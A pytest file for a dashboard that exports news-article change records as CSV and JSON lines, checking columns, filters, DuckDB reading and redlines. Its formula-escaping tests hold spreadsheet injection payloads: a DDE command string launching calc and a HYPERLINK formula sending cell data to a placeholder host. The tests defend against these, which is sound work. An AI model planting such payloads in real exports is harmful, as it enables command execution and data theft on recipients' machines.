"""Exports: each format read back by a reader nobody here wrote."""

import csv
import hashlib
import io
import json
from datetime import timedelta
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.commands_export import Format
from dashboard.exporting import formats
from dashboard.reference import dictionary_markdown, formats_markdown
from histories import ADDRESS, CORRECTION, START, TEXT, archive_of, corrected, document
from store.address import article_id
from store.export import EXPORTS
from store.export import tables as tables_module
from store.export.dictionary import CHANGES
from store.export.redlines import SPAN, redline, whole_redline
from store.export.tabular import safe_cell
from store.message import redline as as_message
from store.model import Outcome, Span
from store.rows import SPANS, as_json
from store.selection import Selection

COLUMNS = [column.name for column in CHANGES.columns]
LISTS = [column.name for column in CHANGES.columns if column.type == "array"]


def written(archive, name, **selection) -> bytes:
    return b"".join(EXPORTS[name].write(archive, Selection(**selection)))


def lines(archive, **selection) -> list[dict]:
    return [json.loads(line) for line in written(archive, "jsonl", **selection).splitlines()]


def rows(archive, **selection) -> list[dict]:
    text = written(archive, "csv", **selection).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_lines_has_one_line_for_each_change_and_event_in_their_order(tmp_path):
    found = lines(corrected(tmp_path))
    assert [list(record) for record in found] == [list(COLUMNS)] * len(found)
    assert [record["seen_first_at"] for record in found] == sorted(
        record["seen_first_at"] for record in found
    )
    assert (found[0]["scope"], found[0]["old_version"], found[0]["new_version"]) == ("text", 1, 2)
    assert (found[-1]["scope"], found[-1]["kind"]) == ("article", "removed")
    (note,) = [record for record in found if record["kind"] == "correction"]
    assert note["note_text"] == CORRECTION
    assert note["note_place"] == "end"


def test_csv_holds_the_same_as_json_lines(tmp_path):
    archive = corrected(tmp_path)
    table, found = rows(archive), lines(archive)
    assert len(table) == len(found)
    for row, record in zip(table, found, strict=True):
        for name in LISTS:
            assert json.loads(row[name]) == record[name]
        for name in COLUMNS:
            if name not in LISTS:
                assert row[name] == ("" if record[name] is None else str(record[name]))


def test_duckdb_reads_both_files(tmp_path):
    archive = corrected(tmp_path)
    for name in ("csv", "jsonl"):
        (tmp_path / f"x.{name}").write_bytes(written(archive, name))
    table, lines_ = str(tmp_path / "x.csv"), str(tmp_path / "x.jsonl")
    of_csv = duckdb.execute("SELECT count(*), max(significance) FROM read_csv(?)", [table])
    counted = of_csv.fetchone()
    of_json = duckdb.execute("SELECT count(*), max(significance) FROM read_json(?)", [lines_])
    assert counted == of_json.fetchone()
    assert counted[0] > 2


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "  =cmd|' /C calc'!A0",
    "\u00a0=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_looks_like_a_formula_becomes_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=b", "'quoted'", "12 - 3", "née", "[-a-]{+b+}"])
def test_other_cells_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_a_hostile_article_makes_no_formula_and_breaks_no_row(tmp_path):
    attack = '=HYPERLINK("http://x.test/?"&A1,"ferries, ""12""") and a line that is long enough.'
    archive = archive_of(
        tmp_path,
        document(*TEXT, headline="=cmd|' /C calc'!A0"),
        document(*TEXT, attack, headline="=cmd|' /C calc'!A0", outlet="@SUM(1+1)"),
    )
    (row,) = rows(archive)
    assert row["headline"].startswith("'=")
    assert row["outlet"].startswith("'@")
    assert row["new"] == f"'{attack}"
    (record,) = lines(archive)
    assert record["new"] == attack
    for cell in row.values():
        assert not cell.lstrip().startswith(("=", "+", "@"))


def test_texts_leave_as_short_spans_with_the_digest_of_the_whole(tmp_path):
    long = (
        " ".join(f"The clerk read entry number {n} aloud to the council" for n in range(60)) + "."
    )
    archive = archive_of(tmp_path, document(*TEXT), document(*TEXT, long))
    (record,) = lines(archive)
    assert len(record["new"]) == SPAN
    assert record["new_sha256"] == hashlib.sha256(long.encode()).hexdigest()
    assert long not in written(archive, "csv").decode()
    (whole,) = lines(archive, full_text=True)
    assert whole["new"] == long
    assert long in whole["redline"]


def test_a_selection_narrows_by_article_outlet_kind_and_period(tmp_path):
    archive = corrected(tmp_path)
    number, at = article_id(ADDRESS), START + timedelta(hours=3)
    everything = lines(archive)
    assert lines(archive, articles=(number,)) == everything
    assert lines(archive, articles=(1,)) == []
    assert lines(archive, outlets=("The Harbour Gazette",)) == everything
    assert lines(archive, outlets=("Another",)) == []
    assert {record["kind"] for record in lines(archive, kinds=("removed",))} == {"removed"}
    before, after = lines(archive, until=at), lines(archive, since=at)
    assert before + after == everything
    assert before
    assert after


def test_a_label_of_the_comparison_selects_its_changes(tmp_path):
    found = lines(corrected(tmp_path), kinds=("changed_without_note",))
    assert [(record["old_version"], record["new_version"]) for record in found] == [(1, 2)]


def test_what_waits_is_marked_and_noise_leaves_only_when_asked_for(tmp_path):
    other = document(*TEXT, headline="Ferries: the port counts again")
    waiting = archive_of(tmp_path / "waiting", document(*TEXT), other)
    (marked,) = lines(waiting)
    assert marked["held_by"] == "unconfirmed"
    flapped = archive_of(tmp_path / "flapped", document(*TEXT), other, document(*TEXT))
    assert lines(flapped) == []
    assert {held["held_by"] for held in lines(flapped, held=True)} == {"flap"}


@pytest.mark.parametrize("size", [1, 2, 3])
def test_stretches_of_time_join_without_a_gap_or_a_double(tmp_path, monkeypatch, size):
    archive = corrected(tmp_path)
    everything = lines(archive)
    monkeypatch.setattr(tables_module, "STRETCH", size)
    assert lines(archive) == everything
    at = START + timedelta(hours=3)
    assert lines(archive, until=at) + lines(archive, since=at) == everything


def test_the_page_on_exports_has_every_format_and_the_data_dictionary():
    page = (Path(__file__).parent.parent / "docs" / "exports.md").read_text("utf-8")
    assert formats_markdown() in page
    assert dictionary_markdown() in page
    assert page.count("| `") > 150


def test_every_format_is_one_that_the_command_takes():
    assert [str(name) for name in Format] == list(formats(""))
    assert [made.name for made in formats("").values()] == list(formats(""))


def test_an_empty_selection_is_an_empty_file_or_a_heading(tmp_path):
    archive = archive_of(tmp_path, document(*TEXT), Outcome.UNCHANGED)
    assert written(archive, "jsonl") == b""
    assert written(archive, "csv").decode() == ",".join(COLUMNS) + "\r\n"


WORDS = st.text(st.characters(codec="utf-8") | st.sampled_from(" \n\t\u00a0\u2028\u202e[-]{+}"))
RUNS = st.builds(
    Span,
    st.sampled_from(["same", "removed", "added"]),
    WORDS | st.sampled_from(["x" * 700, "y " * 90]),
)


@given(st.lists(st.lists(RUNS, max_size=5), min_size=1, max_size=20))
def test_a_redline_made_in_sql_is_to_the_letter_what_messages_say(redlines):
    rows = duckdb.execute(
        f"SELECT {redline('r')}, {whole_redline('r')} FROM (SELECT unnest(?::VARCHAR[]) AS r)",
        [[as_json(SPANS, tuple(spans)) for spans in redlines]],
    ).fetchall()
    assert rows == [
        (as_message(spans) or None, as_message(spans, None) or None) for spans in redlines
    ]


def test_labels_parts_and_intention_are_columns(tmp_path):
    (note,) = [record for record in lines(corrected(tmp_path)) if record["kind"] == "correction"]
    assert "changed_with_note" in note["labels"]
    assert sum(part["points"] for part in note["parts"]) == pytest.approx(note["significance"])
    assert {"name", "meaning", "points"} == set(note["parts"][0])
    assert "intention" in note
